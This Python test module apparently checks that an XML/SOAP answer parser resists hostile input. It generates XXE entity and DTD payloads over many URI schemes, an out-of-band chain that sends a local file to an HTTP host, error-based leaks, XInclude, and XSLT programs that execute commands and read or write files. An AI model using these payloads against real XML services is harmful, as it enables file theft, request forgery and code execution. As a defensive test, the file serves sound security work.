"""T1 and T4: answers that want something from outside: entities, DTDs, includes, stylesheets, and programs in them."""

from __future__ import annotations

from tests.hostile.case import Case, answered, before, inside, kept

_SYSTEMS = {
    "file": "file://@FILE@",
    "path": "@FILE@",
    "http": "@HTTP@/x",
    "ftp": "ftp://127.0.0.1/x",
    "php": "php://filter/read=convert.base64-encode/resource=@FILE@",
    "expect": "expect://id",
    "netdoc": "netdoc:@FILE@",
    "jar": "jar:@HTTP@/x.jar!/x",
    "data": "data:text/plain,x",
    "unc": "\\\\127.0.0.1\\x",
    "gopher": "gopher://127.0.0.1/x",
}


def _doctype(inner: str, text: str = "&x;", outer: str = "") -> bytes:
    return before(f"<!DOCTYPE e:Envelope {outer}[{inner}]>", text)


def _entities() -> list[Case]:
    cases = [
        Case(f"T1/entity-{name}", _doctype(f'<!ENTITY x SYSTEM "{address}">')) for name, address in _SYSTEMS.items()
    ]
    cases += [
        Case(f"T1/parameter-entity-{name}", _doctype(f'<!ENTITY % p SYSTEM "{address}"> %p;', "ok"))
        for name, address in _SYSTEMS.items()
    ]
    return cases


def _dtds() -> list[Case]:
    chain = '<!ENTITY % f SYSTEM "file://@FILE@"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'@HTTP@/?%f;\'>">%e;%s;'
    error = '<!ENTITY % f SYSTEM "file://@FILE@"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'file:///no/%f;\'>">%e;%s;'
    documents = {
        "empty": before("<!DOCTYPE e:Envelope>"),
        "external-http": before('<!DOCTYPE e:Envelope SYSTEM "@HTTP@/x.dtd">'),
        "external-file": before('<!DOCTYPE e:Envelope SYSTEM "file://@FILE@">'),
        "public": before('<!DOCTYPE e:Envelope PUBLIC "-//X//X" "@HTTP@/x.dtd">'),
        "external-and-internal": _doctype('<!ENTITY x "y">', outer='SYSTEM "@HTTP@/x.dtd" '),
        "internal-entity": _doctype('<!ENTITY x "y">'),
        "unused-entity": _doctype('<!ENTITY x "y">', "ok"),
        "attribute-default": _doctype('<!ATTLIST e:Envelope a CDATA "x">', "ok"),
        "attribute-entity": _doctype('<!ENTITY x SYSTEM "@HTTP@/x">', '<a b="&x;"/>'),
        "notation": _doctype('<!NOTATION n SYSTEM "@HTTP@/x">', "ok"),
        "unparsed": _doctype('<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "@HTTP@/x" NDATA n>', "ok"),
        "out-of-band": _doctype(chain, "ok"),
        "error-based": _doctype(error, "ok"),
        "conditional": before('<!DOCTYPE e:Envelope SYSTEM "@HTTP@/x.dtd" [<![INCLUDE[<!ENTITY x "y">]]>]>'),
        "after-declaration": before('<?xml version="1.0"?>\n<!DOCTYPE e:Envelope SYSTEM "@HTTP@/x.dtd">'),
        "after-comment": before('<!-- -- ><!-- --><!DOCTYPE e:Envelope SYSTEM "@HTTP@/x.dtd">'),
        "after-instruction": before('<?a b?><!DOCTYPE e:Envelope SYSTEM "@HTTP@/x.dtd">'),
        "after-blanks": before("\n\t " * 50 + '<!DOCTYPE e:Envelope SYSTEM "@HTTP@/x.dtd">'),
        "after-mark": b"\xef\xbb\xbf" + before('<!DOCTYPE e:Envelope SYSTEM "@HTTP@/x.dtd">'),
        "lower-case": before('<!doctype e:Envelope SYSTEM "@HTTP@/x.dtd">'),
        "twice": before("<!DOCTYPE a><!DOCTYPE b>"),
        "no-end": b'<!DOCTYPE e:Envelope [<!ENTITY x "',
        "in-the-body": answered('<!DOCTYPE a SYSTEM "@HTTP@/x.dtd">'),
        "after-the-root": answered("ok") + b'<!DOCTYPE a SYSTEM "@HTTP@/x.dtd">',
        "quoted-end": before("<!DOCTYPE a [<!ENTITY x ']>'>]>", "&x;"),
        "undefined-entity": answered("&nobody;"),
        "html-entity": answered("&nbsp;"),
    }
    cases = [Case(f"T1/dtd-{name}", data) for name, data in documents.items()]
    for codec in ("utf-16", "utf-16-le", "utf-16-be"):
        text = documents["external-http"].decode().replace("@HTTP@", "http://127.0.0.1:1")
        cases.append(Case(f"T1/dtd-{codec}", text.encode(codec)))
    return cases


def _followed_nowhere() -> list[Case]:
    include = (
        '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{}" parse="{}"><i:fallback>f</i:fallback>'
        "</i:include>"
    )
    root = answered("ok").decode()
    cases = [
        kept(f"T1/stylesheet-{name}", before(f'<?xml-stylesheet type="text/xsl" href="{address}"?>'))
        for name, address in _SYSTEMS.items()
    ]
    cases += [
        kept("T1/schema-location", _with(root, 'xsi:schemaLocation="urn:old @HTTP@/x.xsd"')),
        kept("T1/schema-location-file", _with(root, 'xsi:schemaLocation="urn:old file://@FILE@"')),
        kept("T1/no-namespace-schema-location", _with(root, 'xsi:noNamespaceSchemaLocation="@HTTP@/x.xsd"')),
        kept("T1/xml-base", _with(root, 'xml:base="@HTTP@/"')),
        kept("T1/xml-model", before('<?xml-model href="@HTTP@/x.rng"?>')),
        kept("T1/doctype-in-cdata", answered("<![CDATA[<!DOCTYPE a SYSTEM '@HTTP@'>]]>"), None),
        kept(
            "T1/xlink",
            inside('<t:Text>ok</t:Text><a xmlns="urn:x" xmlns:l="http://www.w3.org/1999/xlink" l:href="@HTTP@"/>'),
            None,
        ),
    ]
    for kind in ("text", "xml"):
        for name, href in (("file", "@FILE@"), ("http", "@HTTP@/x")):
            data = inside(f"<t:Text>ok</t:Text>{include.format(href, kind)}")
            cases.append(kept(f"T1/xinclude-{kind}-{name}", data, None))
    return cases


def _with(root: str, attribute: str) -> bytes:
    return root.replace("<e:Envelope ", f"<e:Envelope {attribute} ", 1).encode()


_XSLT = 'xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"'
_RUN = """<xsl:template match="/" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"
  xmlns:ob="http://xml.apache.org/xalan/java/java.lang.Object"><xsl:variable name="r" select="rt:getRuntime()"/>
  <xsl:value-of select="rt:exec($r, 'touch @FILE@')"/></xsl:template>"""
_WRITE = """<xsl:template match="/"><r:write xmlns:r="org.apache.xalan.xslt.extensions.Redirect"
  file="@FILE@">x</r:write>
  <e:document xmlns:e="http://exslt.org/common" href="@FILE@" method="text">x</e:document></xsl:template>"""
_READ = """<xsl:import href="@HTTP@/x.xsl"/><xsl:include href="file://@FILE@"/>
  <xsl:template match="/"><xsl:copy-of select="document('@HTTP@/x')"/></xsl:template>"""


def _transforms() -> list[Case]:
    """No transformation is ever run, so a stylesheet is free XML like any other."""
    programs = {"exec": _RUN, "write": _WRITE, "read": _READ}
    cases = []
    for name, program in programs.items():
        sheet = f"<xsl:stylesheet {_XSLT}>{program}</xsl:stylesheet>"
        cases.append(Case(f"T4/xslt-{name}-as-the-answer", sheet.encode()))
        cases.append(kept(f"T4/xslt-{name}-inside", inside(f"<t:Text>ok</t:Text>{sheet}"), None))
    literal = (
        f'<html xsl:version="1.0" {_XSLT.partition(" version")[0]}><xsl:value-of select="document(\'@HTTP@\')"/></html>'
    )
    cases.append(Case("T4/xslt-literal-result", literal.encode()))
    embedded = f'<?xml-stylesheet type="text/xsl" href="#s"?><xsl:stylesheet id="s" {_XSLT}>{_RUN}</xsl:stylesheet>'
    cases.append(Case("T4/xslt-embedded", embedded.encode()))
    return cases


def cases() -> list[Case]:
    return [*_entities(), *_dtds(), *_followed_nowhere(), *_transforms()]
